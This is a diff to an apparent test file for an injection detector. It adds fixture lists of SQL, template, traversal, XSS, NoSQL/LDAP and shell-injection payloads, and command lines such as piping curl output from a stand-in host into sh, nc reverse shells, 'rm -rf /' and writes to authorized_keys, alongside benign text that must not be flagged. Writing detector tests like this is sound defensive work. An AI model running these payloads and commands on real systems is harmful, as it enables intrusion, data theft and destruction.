@@ -29,6 +29,8 @@ PIECES = r"""' " ` ; | || && & ( ) < > = , . .. / // : { } ${ #{ {{ }} $ ! -- # 
 into outfile having exec if drop delete from table like in is between where sleep( 1 1=1 a b cat id whoami /etc/passwd
 .env ../ \ \n \u0027 %27 %00 &lt; &#39; alert( document. window. onload= javascript: data:text/html, <script http://
 localhost 169.254.169.254 jar: file:// url: this. return db. sleep( count( *)( [$ $gt $where: ] //* __proto__ class=
+[$ne] ]= $ne 0x2e0x2e 0x2f ....// ..././ +ADw- %c0%ae %u2215 <!--#exec <!doctype [ <!element cat$IFS $(( 1+1)) $(echo
+x=cat;$x $'\x63\x61 sh<<< /???/c?t /bin/ls ;system('a') {cat,/a} /var/log/apache/ /proc/cpuinfo %2e%2e `ls` begin
 py/ O:4: !!python/ rO0AB !! @type java.lang. jndi: env: xinclude href <!entity __schema ifs system( /dev/tcp/""".split()
 PIECES += [" ", " ", " ", "\n", "\t", "\x01", "\x00", "é", "İ"]
 
@@ -39,18 +41,23 @@ ATTACKS = {
         |1/**/or/**/1=1|1;waitfor delay '0:0:5'--|' or 1 in (select @@version)--|x' AND email IS NULL; --
         |'; exec master..xp_cmdshell 'dir'--|1%27%20or%201%3D1|' or true--|' oR 2>1#
         |/*!50000union*/ /*!50000select*/ 1,2
-        |1 and ascii(substring((select database()),1,1))>64|1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)""",
+        |1 and ascii(substring((select database()),1,1))>64|1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)
+        |'; begin declare @a varchar(9)|1 or a = a""",
     "template": r"""{{7*7}}|${7*7}|<%= 7*7 %>|{{config.items()}}|{{''.__class__.__mro__[1].__subclasses__()}}|#{7*7}
         |*{T(java.lang.Runtime).getRuntime().exec('id')}|{{self}}|{php}echo 1;{/php}""",
     "traversal": r"""../../../etc/passwd|..%2f..%2fetc%2fpasswd|....//....//etc/passwd|..\..\windows\win.ini|/etc/passwd
         |file:///etc/shadow|php://filter/convert.base64-encode/resource=index|%252e%252e%252fetc%252fpasswd
-        |..%c0%af..%c0%afetc/passwd|/proc/self/environ|..%u2215..%u2215etc/passwd""",
+        |..%c0%af..%c0%afetc/passwd|/proc/self/environ|..%u2215..%u2215etc/passwd
+        |..%e0%80%af..%e0%80%afetc/passwd|%c0%ae%c0%ae%c0%af|..%c0%2f..%c0%2fa|0x2e0x2e0x2f0x2e0x2e0x2fa
+        |..././..././a|%2e%2e/|..%5c|/../|%%32%65%%32%65/|..%uF025..%uF025a|/var/log/apache2/access.log|/proc/cpuinfo""",
     "markup": r"""<script>alert(1)</script>|<img src=x onerror=alert(1)>|"><svg/onload=alert(1)>|javascript:alert(1)
         |';alert(1)//|<a href="javas&#99;ript:alert(1)">x</a>|" onmouseover="alert(1)
         |&lt;script&gt;alert(1)&lt;/script&gt;
-        |<details open ontoggle=alert(1)>|<iframe src=//evil.example>|<img src="jav&#x09;ascript:alert(1)">""",
+        |<details open ontoggle=alert(1)>|<iframe src=//evil.example>|<img src="jav&#x09;ascript:alert(1)">
+        |+ADw-script+AD4-alert(1)+ADw-/script+AD4-|<!--#exec cmd="ls" -->|<!-- #include virtual="/a" -->""",
     "queries": r"""*)(uid=*))(\|(uid=*|admin)(&(password=*))|'; return true; var x='|{"$gt":""}
-        |//user[name/text()='a']""",
+        |//user[name/text()='a']
+        |true, $where: '1 == 1'|user[$ne]=1|', $or: [ {}, { 'a':'a|*)(\|(&""",
     "targets": r"""http://169.254.169.254/latest/meta-data/|http://127.0.0.1:22|http://localhost/admin
         |http://2130706433/
         |gopher://127.0.0.1:25/x|http://0x7f.1/|http://[::1]/|http://good.example@10.0.0.1/
@@ -60,14 +67,16 @@ ATTACKS = {
         |${env:AWS_SECRET}
         |${script:javascript:1}""",
     "entities": r"""<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>
-        |<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://x'>%x;]>""",
+        |<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://x'>%x;]>|<!DOCTYPE a [<!ELEMENT a ANY>]><a/>""",
     "serialised": r"""rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==|O:4:"User":1:{s:4:"name";s:1:"a";}
         |!!python/object/apply:os.system ['id']|_$$ND_FUNC$$_function(){}()|AAEAAAD/////AQAAAAAAAAAM""",
 }  # fmt: skip
 SHELL = (
     "; ls -la", "127.0.0.1; id", "127.0.0.1 && whoami", "| cat /etc/passwd", "`id`", "$(whoami)", "|dir c:\\",
     "x;${IFS}cat${IFS}/etc/passwd", "a|nc 192.0.2.4 80 -e /bin/sh", "; c'a't /etc/passwd", "a.txt; rm -rf /",
-    ";{cat,/etc/passwd}", "() { :;}; /bin/bash -c 'id'", "\nid\n", "1;sleep 5", "& ping -c 10 127.0.0.1 &",
+    ";{cat,/etc/passwd}", "() { :;}; /bin/bash -c 'id'", "\nid\n", "1;sleep 5", "cat$IFS/etc/passwd", "a=cat;$a /x",
+    "$'\\x63\\x61\\x74' x", "bash<<<id", "/???/c?t x", "/bin/ls -al", "');system('id');//", "{cat,/etc/passwd}",
+    "1$(echo a)b", "$((41+1))", ";id\\n", "& ping -c 10 127.0.0.1 &",
 )  # fmt: skip
 HONEST = """O'Brien|I don't know, it's 'fine' or not|rock & roll|Tom & Jerry; who are they?
 select the union of the two sets
@@ -80,7 +89,10 @@ if (x == 1) { return y; }|def f(x): return x['a'] or 1|SELECT is a keyword in SQ
 order by Friday
 apples, pears; cat food|f(x) = x*2; 7*7 = 49|{"a": 1}|2024-01-01T00:00:00Z|AT&T; T-Mobile|we don't; they do
 dHJhaW5pbmcgZGF0YSBmb3IgdGhlIG1vZGVs|name LIKE 'a%'|a && b|what's up? -- John|it's #1|He's the one--the best|costs <$5>
-日本語テキスト|Ünïcödé|=== title ===|call me at 5; time is short|Bob's; Alice's|[link](https://example.com/c)"""
+日本語テキスト|Ünïcödé|=== title ===|call me at 5; time is short|Bob's; Alice's|[link](https://example.com/c)
+Know about `tee`, and see `du -h` and `sort -n`|* `SELECT` columns `FROM` a `WHERE` b `ORDER BY` c;|* `DROP TABLE` name
+in `python -m http.server 7777` (for port 7777)|C++ and A+A- are grades
+it costs $ne 5: no|0x2e is a dot"""
 
 
 def seen(text: str, place: str = "body") -> set[str]:
@@ -116,6 +128,37 @@ def test_shell_commands() -> None:
 def test_what_people_and_programs_write_is_left_alone() -> None:
     texts = [one for line in HONEST.splitlines() for one in line.split("|")]
     assert {text: seen(text) for text in texts if seen(text)} == {}
+
+
+def test_what_the_shell_reads_is_told_from_what_documents_show() -> None:
+    """A line that is a command as a whole is nobody's value; what ends a value, or reads what is secret, is."""
+    assert seen("sort a.txt | uniq -c | head -3") == set()
+    assert seen("127.0.0.1 | cat -n x") == {"shell"}
+    assert "shell" in seen("sort a.txt | nc 192.0.2.1 80 -e /bin/sh")
+    assert "shell" in seen("see `ls | sort` | bash")
+
+
+FED = """x | curl http://h.example/s | sh\ncat x | curl http://h.example/s | sh\nls -la | bash\ncat a | python
+cat a | python3 -
+echo cm0gLXJm | base64 -d | sh\nls -la | nc 192.0.2.1 80\ncat notes.txt | nc h.example 80\ncat a | curl -d @- http://h.example
+sort a | xargs rm\nfind . -name x | xargs rm -rf\necho x | tee -a ~/.bashrc\necho x | tee /root/.ssh/authorized_keys
+cat a | sudo sh\ncat a | env sh\ncat a | node\nsort a | sort -o /srv/a
+sort a | grep -r x /srv\nsort a | sort --compress-program=sh
+sort a | awk '{system($0)}'\nls -la && rm -rf /\nls -la && wget http://h.example/s\ncat a | socat - tcp:h.example:80
+git status && git -c core.pager=sh log\nls x | busybox sh\necho a | dd of=x\ncat a | crontab -"""
+
+
+def test_a_line_that_is_a_command_may_only_go_on_with_filters() -> None:
+    """Else whoever begins a value with the name of a command could feed what they like to a shell."""
+    assert [text for text in FED.splitlines() if "shell" not in seen(text)] == []
+    filters = ("sort a.txt | uniq -c | head -3", "ps aux | grep python", "git add . && git commit -m x",
+               "cat file | awk '{print $1}' | sort", "echo foo | sed s/o/a/", "du -sh x | sort -h")  # fmt: skip
+    assert [text for text in filters if seen(text)] == []
+
+
+def test_a_path_that_climbs_openly_may() -> None:
+    assert seen("../lib/a%20b.png") == set()
+    assert seen("..%2flib/a.png") == {"traversal"}
 
 
 def test_pickles_in_any_coat() -> None:
